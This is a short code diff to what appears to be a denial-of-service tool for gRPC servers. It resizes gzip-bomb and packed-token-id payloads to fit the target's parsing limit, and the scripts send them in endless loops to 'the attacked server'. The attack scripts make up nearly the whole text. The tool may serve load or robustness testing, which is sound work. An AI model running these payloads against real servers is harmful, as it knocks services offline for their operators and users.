@@ -13,6 +13,8 @@ MIB = 1 << 20
 FRAME = 16384
 LIMIT_MIB = 8
 """The largest message that the attacked server takes."""
+PACKED_MIB = 4
+"""The most packed numbers that it parses."""
 REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
 GZIP = ("grpc-encoding", "gzip")
 TOKENIZED_IDS = (2, 2)
@@ -55,9 +57,9 @@ def gzip_bombs(hand: Hand) -> Script:
 
 
 def gzip_bombs_within_the_limit(hand: Hand) -> Script:
-    """As many token ids as the message limit allows, in eight kilobytes."""
+    """As many token ids as are parsed, in four kilobytes."""
     yield HELLO
-    bomb = _gzip(_ids(LIMIT_MIB * MIB - 100))
+    bomb = _gzip(_ids(PACKED_MIB * MIB - 100))
     while True:
         yield b"".join(_compressed(hand, bomb) for _ in range(4))
 
@@ -65,7 +67,7 @@ def gzip_bombs_within_the_limit(hand: Hand) -> Script:
 def token_ids_by_the_million(hand: Hand) -> Script:
     """The same without gzip."""
     yield HELLO
-    body = raw.message(_ids(LIMIT_MIB * MIB - 100))
+    body = raw.message(_ids(PACKED_MIB * MIB - 100))
     while True:
         stream, headers = hand.open()
         yield headers
